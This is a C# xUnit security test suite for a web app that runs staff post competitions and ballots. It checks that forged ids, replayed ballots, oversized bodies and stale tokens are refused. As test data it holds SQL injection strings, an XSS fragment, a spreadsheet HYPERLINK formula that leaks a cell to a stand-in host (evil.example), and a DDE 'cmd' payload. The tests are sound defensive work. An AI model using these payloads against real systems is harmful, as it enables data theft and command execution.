using System.Globalization;
using System.Net;
using CompetitivePosts.Domain;
using CompetitivePosts.Domain.Audit;
using CompetitivePosts.Domain.Competitions;
using CompetitivePosts.Web.Features.Audit;
using CompetitivePosts.Web.Features.Common;
using CompetitivePosts.Web.Features.Decisions;
using CompetitivePosts.Web.Features.Registration;
using CompetitivePosts.Web.Features.Roster;
using CompetitivePosts.Web.Tests.Infrastructure;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;

namespace CompetitivePosts.Web.Tests.Features.Security;

/// <summary>
/// The hostile-input suite (docs/security.md lists it with its results). Every free-text field of
/// <see cref="HostileInputs.Fields"/> gets SQL metacharacters and text over its limit; the facts below
/// cover forged and foreign ids, replayed tokens and forms, stale antiforgery tokens, oversized
/// bodies and hostile sign-in fields. Each refusal is checked for a Chinese message and for a
/// database left exactly as it was (<see cref="DbSnapshot"/>). XSS is in Browser/HostileInputBrowserTests.
/// </summary>
[Collection(AppTests.Name)]
public class HostileInputTests(AppFixture app)
{
    /// <summary>The cell types of SpreadsheetML that hold text: a string value, an inline string, a shared string.</summary>
    private static readonly string[] TextCellTypes = ["str", "inlineStr", "s"];

    [Theory]
    [MemberData(nameof(HostileInputs.Names), MemberType = typeof(HostileInputs))]
    public async Task Store_SqlMetacharacters_AreStoredLiterally(string fieldName)
    {
        var field = HostileInputs.Field(fieldName);
        var context = await field.PrepareAsync(app, HostileInputs.Sql);

        var stored = await field.StoreAsync(app, context, HostileInputs.Sql);

        await using var db = app.NewDb();
        Assert.Equal(HostileInputs.Sql, await stored.ReadBackAsync(db));
        Assert.True(await db.Units.AnyAsync(), "the Units table is still there and holds its rows");
        Assert.True((await AuditTrail.VerifyChainAsync(db, AuditEntry.SystemChain)).Intact);
    }

    [Theory]
    [MemberData(nameof(HostileInputs.Names), MemberType = typeof(HostileInputs))]
    public async Task Store_TextOverTheLimit_IsRefusedInChineseAndNothingSaved(string fieldName)
    {
        var field = HostileInputs.Field(fieldName);
        var tooLong = new string('长', field.MaxLength + 1);
        var context = await field.PrepareAsync(app, tooLong);
        var before = await DbSnapshot.TakeAsync(app);

        var refused = await Record.ExceptionAsync(() => field.StoreAsync(app, context, tooLong));

        before.AssertUnchanged(await DbSnapshot.TakeAsync(app));
        var error = refused switch
        {
            DomainException d => d,
            InvalidInputException { Errors: [var first, ..] } => first.Error,
            _ => throw new Xunit.Sdk.XunitException($"expected a refusal with a message, got {refused?.GetType().Name ?? "success"}: {refused?.Message}"),
        };
        Assert.Contains(field.MaxLength.ToString(CultureInfo.InvariantCulture), app.Chinese(error.MessageKey, [.. error.Args]), StringComparison.Ordinal);

        // control: text of exactly the limit is accepted and kept whole.
        var atLimit = new string('满', field.MaxLength);
        var stored = await field.StoreAsync(app, await field.PrepareAsync(app, atLimit), atLimit);
        await using var db = app.NewDb();
        Assert.Equal(atLimit, await stored.ReadBackAsync(db));
    }

    [Fact]
    public async Task Handlers_ForgedAndForeignIds_AreRefusedInChineseAndNothingChanges()
    {
        var ours = await app.OpenForVotingAsync();
        var unit = await app.DemoUnitIdAsync();
        var organizer = Scenarios.Organizer(unit);
        var foreignCompetition = await ForeignCompetitionAsync();
        var draft = await NewDraftAsync(organizer, unit);
        var registering = await app.ArrangeAsync(CompetitionStatus.Registration);
        var openPost = await app.PostIdAsync(registering.CompetitionId, "综合科科长");
        using var scope = app.Services.CreateScope();
        var roster = scope.ServiceProvider.GetRequiredService<RosterHandler>();
        var register = scope.ServiceProvider.GetRequiredService<Register>();
        var decisions = scope.ServiceProvider.GetRequiredService<DecisionsHandler>();
        var before = await DbSnapshot.TakeAsync(app);

        var refusals = new List<DomainException>
        {
            await Assert.ThrowsAsync<DomainException>(() => roster.AddCadreAsync(int.MaxValue, organizer, "伪造", VoterCategory.C)),
            await Assert.ThrowsAsync<DomainException>(() => roster.AddCadreAsync(-1, organizer, "伪造", VoterCategory.C)),
            await Assert.ThrowsAsync<DomainException>(() => roster.AddCadreAsync(foreignCompetition, organizer, "外单位", VoterCategory.C)),
            // A cadre of another competition, in this unit's own draft.
            await Assert.ThrowsAsync<DomainException>(() => roster.AddPostAsync(draft, organizer, "岗位", PostLevel.Deputy, null, ours.Id("乙"))),
            // Another competition's cadre, and a post that does not exist, in this unit's competition open for registration.
            await Assert.ThrowsAsync<DomainException>(() => register.ByOrganizerAsync(registering.CompetitionId, organizer,
                new Register.Command(ours.Id("丙"), [openPost], true, null))),
            await Assert.ThrowsAsync<DomainException>(() => register.ByOrganizerAsync(registering.CompetitionId, organizer,
                new Register.Command(registering.Id("丙"), [int.MaxValue], true, null))),
            await Assert.ThrowsAsync<DomainException>(() => decisions.DecideAsync(ours.CompetitionId, organizer, int.MaxValue, ours.Id("乙"), null)),
        };

        before.AssertUnchanged(await DbSnapshot.TakeAsync(app));
        foreach (var r in refusals)
        {
            Assert.NotEqual(r.MessageKey, app.Chinese(r.MessageKey, [.. r.Args]));
        }

        // control: the same call with this unit's own ids is accepted.
        await roster.AddCadreAsync(draft, organizer, "本单位干部", VoterCategory.C);
        await using var db = app.NewDb();
        Assert.True(await db.Cadres.AnyAsync(c => c.CompetitionId == draft && c.Name == "本单位干部"));
    }

    [Fact]
    public async Task Pages_ForgedCompetitionId_IsDeniedToOrganizersAndNotFoundForReviewers()
    {
        using var organizer = await WebSession.SignInAsync(app, "organizer");
        using var reviewer = await WebSession.SignInAsync(app, "reviewer");

        using var denied = await organizer.Http.GetAsync("/competitions/2147483647/roster");
        using var missing = await reviewer.Http.GetAsync("/competitions/2147483647/roster");
        using var garbage = await organizer.Http.GetAsync("/competitions/1%27%20OR%201=1/roster");

        Assert.Contains("/account/denied", denied.Headers.Location?.OriginalString, StringComparison.Ordinal);
        Assert.Equal(HttpStatusCode.OK, missing.StatusCode);
        Assert.Contains(app.Chinese("No such competition."), await missing.Content.ReadAsStringAsync(), StringComparison.Ordinal);
        Assert.Equal(HttpStatusCode.NotFound, garbage.StatusCode);
    }

    private static async Task<HttpResponseMessage> PostBallotAsync(WebSession tablet, string token, Dictionary<string, string> fields)
    {
        var form = TestBallots.PageForm(await tablet.Http.GetStringAsync("/b/" + token));
        foreach (var (k, v) in fields)
        {
            form[k] = v;
        }

        return await tablet.Http.PostAsync("/b/" + token, new FormUrlEncodedContent(form));
    }

    [Fact]
    public async Task Ballot_ForgedCandidateIdInTheForm_IsRefusedAndNothingSaved()
    {
        var s = await app.OpenForVotingAsync();
        var other = await app.OpenForVotingAsync();
        using var tablet = new WebSession(app.BaseUri);
        var before = await DbSnapshot.TakeAsync(app);

        using var forged = await PostBallotAsync(tablet, s.Tokens["甲"], new()
        {
            ["Marks[0].CandidateId"] = other.Id("乙").ToString(CultureInfo.InvariantCulture),
            ["Marks[0].Choice"] = "Agree",
            ["SignedName"] = "甲",
            ["Signature"] = TestBallots.Signature,
            ["Step"] = "Submit",
        });

        Assert.Contains(app.Chinese("A mark names someone who is not on this ballot."), await forged.Content.ReadAsStringAsync(), StringComparison.Ordinal);
        before.AssertUnchanged(await DbSnapshot.TakeAsync(app));
        // control: the same voter's honest ballot is accepted.
        using var honest = await PostBallotAsync(tablet, s.Tokens["甲"], new()
        {
            ["Marks[0].CandidateId"] = s.Id("乙").ToString(CultureInfo.InvariantCulture),
            ["Marks[0].Choice"] = "Agree",
            ["SignedName"] = "甲",
            ["Signature"] = TestBallots.Signature,
            ["Step"] = "Submit",
        });
        Assert.Contains("ballot-submitted", await honest.Content.ReadAsStringAsync(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Ballot_ReplayedForm_KeepsTheFirstBallotAndSaysSo()
    {
        var s = await app.OpenForVotingAsync();
        using var tablet = new WebSession(app.BaseUri);
        var form = TestBallots.PageForm(await tablet.Http.GetStringAsync("/b/" + s.Tokens["乙"]));
        form["_handler"] = "ballot";
        form["Marks[0].CandidateId"] = s.Id("丙").ToString(CultureInfo.InvariantCulture);
        form["Marks[0].Choice"] = "Agree";
        form["SignedName"] = "乙";
        form["Signature"] = TestBallots.Signature;
        form["Step"] = "Submit";

        using var first = await tablet.Http.PostAsync("/b/" + s.Tokens["乙"], new FormUrlEncodedContent(form));
        var afterFirst = await DbSnapshot.TakeAsync(app);
        form["Marks[0].Choice"] = "Disagree";
        using var replay = await tablet.Http.PostAsync("/b/" + s.Tokens["乙"], new FormUrlEncodedContent(form));

        Assert.Contains("ballot-submitted", await first.Content.ReadAsStringAsync(), StringComparison.Ordinal);
        Assert.Contains(app.Chinese("This ballot has already been cast."), await replay.Content.ReadAsStringAsync(), StringComparison.Ordinal);
        afterFirst.AssertUnchanged(await DbSnapshot.TakeAsync(app));
        await using var db = app.NewDb();
        var ballot = await db.SignedBallots.Where(b => b.RoundId == s.RoundId).SingleAsync();
        var round = await db.VotingRounds.SingleAsync(r => r.Id == s.RoundId);
        Assert.Equal((short)Choice.Agree, ballot.Choices[round.Items.Single(i => i.CadreId == s.Id("丙")).Position]);
    }

    [Fact]
    public async Task Antiforgery_TokenFromAnotherSession_GetsTheExpiredPageAndChangesNothing()
    {
        using var earlier = new WebSession(app.BaseUri);
        var stale = WebSession.HiddenFields(await earlier.Http.GetStringAsync("/account/login"));
        using var browser = new WebSession(app.BaseUri);
        await browser.Http.GetStringAsync("/account/login"); // this browser's own antiforgery cookie
        var before = await DbSnapshot.TakeAsync(app);
        stale["_handler"] = "login";
        stale["Form.UserName"] = "reviewer";
        stale["Form.Password"] = "Wrong#2009x";

        using var response = await browser.Http.PostAsync("/account/login", new FormUrlEncodedContent(stale));

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Contains(app.Chinese("This page has expired"), await response.Content.ReadAsStringAsync(), StringComparison.Ordinal);
        before.AssertUnchanged(await DbSnapshot.TakeAsync(app)); // not even a failed attempt was counted
        // control: the same form with this browser's own token reaches the sign-in and counts the wrong password.
        using var own = await browser.SubmitAsync("/account/login", "login", new() { ["Form.UserName"] = "m-af-" + Guid.NewGuid().ToString("N")[..6], ["Form.Password"] = "x" });
        Assert.Equal(HttpStatusCode.OK, own.StatusCode);
    }

    [Fact]
    public async Task Post_BodyOverTheLimit_Gets413InChineseBeforeItIsSentAndNothingSaved()
    {
        var s = await app.OpenForVotingAsync();
        using var tablet = new WebSession(app.BaseUri);
        var form = WebSession.HiddenFields(await tablet.Http.GetStringAsync("/b/" + s.Tokens["甲"]));
        form["_handler"] = "ballot";
        form["SignedName"] = new string('甲', 700_000); // about 6 MB once encoded
        var before = await DbSnapshot.TakeAsync(app);

        // Expect: 100-continue lets the server refuse on the length alone, as a browser's upload would be refused.
        using var request = new HttpRequestMessage(HttpMethod.Post, "/b/" + s.Tokens["甲"]) { Content = new FormUrlEncodedContent(form) };
        request.Headers.ExpectContinue = true;
        using var response = await tablet.Http.SendAsync(request);

        Assert.Equal(HttpStatusCode.RequestEntityTooLarge, response.StatusCode);
        Assert.Contains(app.Chinese("The request is larger than the {0} KB this server accepts.", 1024), await response.Content.ReadAsStringAsync(), StringComparison.Ordinal);
        before.AssertUnchanged(await DbSnapshot.TakeAsync(app));
    }

    [Fact]
    public async Task Post_ChunkedBodyOverTheLimit_IsStoppedWhileReadAnd413InChinese()
    {
        var s = await app.OpenForVotingAsync();
        await using var instance = new SecondInstance(app);
        var form = WebSession.HiddenFields(await instance.Browser.GetStringAsync("/b/" + s.Tokens["甲"]));
        form["_handler"] = "ballot";
        form["SignedName"] = new string('甲', 700_000);
        var before = await DbSnapshot.TakeAsync(app);
        using var body = new FormUrlEncodedContent(form);
        // No Content-Length: the limit applies to what is read.
        using var content = new StreamContent(await body.ReadAsStreamAsync());
        content.Headers.ContentType = body.Headers.ContentType;
        using var request = new HttpRequestMessage(HttpMethod.Post, "/b/" + s.Tokens["甲"]) { Content = content };
        request.Headers.TransferEncodingChunked = true;

        using var response = await instance.Browser.SendAsync(request);

        Assert.Equal(HttpStatusCode.RequestEntityTooLarge, response.StatusCode);
        Assert.Contains(app.Chinese("Request too large"), await response.Content.ReadAsStringAsync(), StringComparison.Ordinal);
        before.AssertUnchanged(await DbSnapshot.TakeAsync(app));
        // control: a normal ballot through the same instance is read and answered.
        using var small = await instance.Browser.PostAsync("/b/" + s.Tokens["甲"], new FormUrlEncodedContent(new Dictionary<string, string>(form) { ["SignedName"] = "乙", ["Signature"] = TestBallots.Signature, ["Step"] = "Submit" }));
        Assert.Equal(HttpStatusCode.OK, small.StatusCode);
    }

    [Fact]
    public async Task Login_SqlMetacharactersOrHugeFields_AreWrongCredentialsAndChangeNothing()
    {
        using var browser = new WebSession(app.BaseUri);
        var before = await DbSnapshot.TakeAsync(app);

        using var sql = await browser.SubmitAsync("/account/login", "login", new() { ["Form.UserName"] = "' OR '1'='1' --", ["Form.Password"] = "' OR '1'='1" });
        using var huge = await browser.SubmitAsync("/account/login", "login", new() { ["Form.UserName"] = new string('a', 100_000), ["Form.Password"] = "x" });

        var wrong = app.Chinese("The user name or password is wrong.");
        Assert.Contains(wrong, await sql.Content.ReadAsStringAsync(), StringComparison.Ordinal);
        Assert.Contains(wrong, await huge.Content.ReadAsStringAsync(), StringComparison.Ordinal);
        Assert.DoesNotContain(browser.Cookies.GetCookies(app.BaseUri), c => c.Name == ".AspNetCore.Identity.Application");
        before.AssertUnchanged(await DbSnapshot.TakeAsync(app));
    }

    [Fact]
    public async Task SelfRegistration_HostileStatementThroughTheAnonymousForm_IsStoredLiterallyShownEncodedAndRefusedOverTheLimit()
    {
        var s = await app.ArrangeAsync(CompetitionStatus.Registration);
        using var scope = app.Services.CreateScope();
        var token = (await scope.ServiceProvider.GetRequiredService<RegistrationLinks>()
            .IssueAsync(s.CompetitionId, Scenarios.Organizer(await app.DemoUnitIdAsync()), [s.Id("丙")])).Single().Token;
        var post = (await app.PostIdAsync(s.CompetitionId, "综合科科长")).ToString(CultureInfo.InvariantCulture);
        using var phone = new WebSession(app.BaseUri);
        var hostile = HostileInputs.Xss + HostileInputs.Sql;

        var before = await DbSnapshot.TakeAsync(app);
        using var tooLong = await phone.SubmitAsync("/r/" + token, "register", new()
        {
            ["Form.Posts[0]"] = post,
            ["Form.Statement"] = new string('长', Competition.StatementLength + 1),
        });
        var refused = await tooLong.Content.ReadAsStringAsync();
        before.AssertUnchanged(await DbSnapshot.TakeAsync(app));
        Assert.Contains(app.Chinese("Text is longer than {0} characters.", Competition.StatementLength), refused, StringComparison.Ordinal);

        using var saved = await phone.SubmitAsync("/r/" + token, "register", new() { ["Form.Posts[0]"] = post, ["Form.Statement"] = hostile });
        var html = await saved.Content.ReadAsStringAsync();

        Assert.Contains("link-saved", html, StringComparison.Ordinal);
        await using var db = app.NewDb();
        Assert.Equal(hostile, await db.Set<CadreRegistration>().Where(r => r.CompetitionId == s.CompetitionId).Select(r => r.Statement).SingleAsync());
        Assert.True(await db.Units.AnyAsync());
        // The page shows the saved statement back in its text box: encoded, so no element of it reaches the page.
        Assert.DoesNotContain("<svg", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("<script>__xss", html, StringComparison.Ordinal);
        Assert.Contains("&lt;svg onload=__xss=1&gt;", html, StringComparison.Ordinal);
        // control: a forged token saves nothing and shows nothing of the competition.
        var afterSave = await DbSnapshot.TakeAsync(app);
        // The form of the real page (its antiforgery token) posted to a forged link.
        var form = WebSession.HiddenFields(await phone.Http.GetStringAsync("/r/" + token));
        form["_handler"] = "register";
        form["Form.Posts[0]"] = post;
        form["Form.Statement"] = "伪造";
        using var forged = await phone.Http.PostAsync("/r/forged-" + Guid.NewGuid().ToString("N"), new FormUrlEncodedContent(form));
        Assert.Contains("link-unknown", await forged.Content.ReadAsStringAsync(), StringComparison.Ordinal);
        afterSave.AssertUnchanged(await DbSnapshot.TakeAsync(app));
    }

    [Fact]
    public async Task Export_FormulaLikeCells_AreWrittenAsTextAndComeBackUnchanged()
    {
        var unit = await app.DemoUnitIdAsync();
        var organizer = Scenarios.Organizer(unit);
        var id = await NewDraftAsync(organizer, unit);
        var formulas = new Dictionary<string, string>
        {
            ["所在处室"] = "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"点此查看\")",
            ["现任职务"] = "+cmd|' /C calc'!A0",
            ["专业"] = "@SUM(1+1)",
            ["民族"] = "-2+3",
        };
        var rows = RosterFiles.Cadres(1);
        foreach (var (column, text) in formulas)
        {
            rows[0][column] = text;
        }

        using var scope = app.Services.CreateScope();
        var import = scope.ServiceProvider.GetRequiredService<ImportRoster.Handler>();
        await import.CommitAsync(id, organizer, await import.PreviewAsync(id, organizer, RosterFile.Cadres, "公式.xlsx", RosterFiles.Xlsx(rows)));
        using var browser = await WebSession.SignInAsync(app, "organizer");

        var exported = await browser.Http.GetByteArrayAsync(ExportRoster.CadresPath(id));

        // An .xlsx is a zip of XML parts: a live formula is an <f> element, which the export must never write.
        using var zip = new System.IO.Compression.ZipArchive(new MemoryStream(exported));
        var sheets = zip.Entries.Where(e => e.FullName.StartsWith("xl/worksheets/", StringComparison.Ordinal) && e.FullName.EndsWith(".xml", StringComparison.Ordinal)).ToList();
        Assert.NotEmpty(sheets);
        foreach (var sheet in sheets)
        {
            using var reader = new StreamReader(sheet.Open());
            var xml = System.Xml.Linq.XDocument.Parse(await reader.ReadToEndAsync());
            Assert.DoesNotContain(xml.Descendants(), e => e.Name.LocalName == "f");
            foreach (var text in formulas.Values)
            {
                // The cell holds the text as a string value, not as a formula or a number.
                var cell = xml.Descendants().Single(e => e.Name.LocalName == "c" && e.Value == text);
                Assert.Contains((string?)cell.Attribute("t"), TextCellTypes);
            }
        }

        // control: the exported file, imported again, changes nothing: the text came back exactly as stored.
        var again = await import.PreviewAsync(id, organizer, RosterFile.Cadres, "导出.xlsx", exported);
        Assert.Empty(again.Problems);
        Assert.Equal(new Domain.Competitions.ImportCounts(0, 0, 1), again.Counts);
        await using var db = app.NewDb();
        Assert.Equal(formulas["所在处室"], await db.Cadres.Where(c => c.CompetitionId == id).Select(c => c.Department).SingleAsync());
    }

    private async Task<int> ForeignCompetitionAsync()
    {
        var unit = await app.OtherUnitIdAsync();
        await using var db = app.NewDb();
        var c = new Competition(unit, "外单位-" + Guid.NewGuid().ToString("N")[..6], DateTimeOffset.UtcNow);
        db.Competitions.Add(c);
        db.Audit(() => c.Id, Scenarios.Arranger, Scenarios.ArrangeAction);
        await db.SaveChangesAsync();
        return c.Id;
    }

    private async Task<int> NewDraftAsync(Actor organizer, int unit)
    {
        using var scope = app.Services.CreateScope();
        return await scope.ServiceProvider.GetRequiredService<Web.Features.Competitions.CompetitionsHandler>().CreateAsync(organizer, unit, "草稿-" + Guid.NewGuid().ToString("N")[..6]);
    }
}
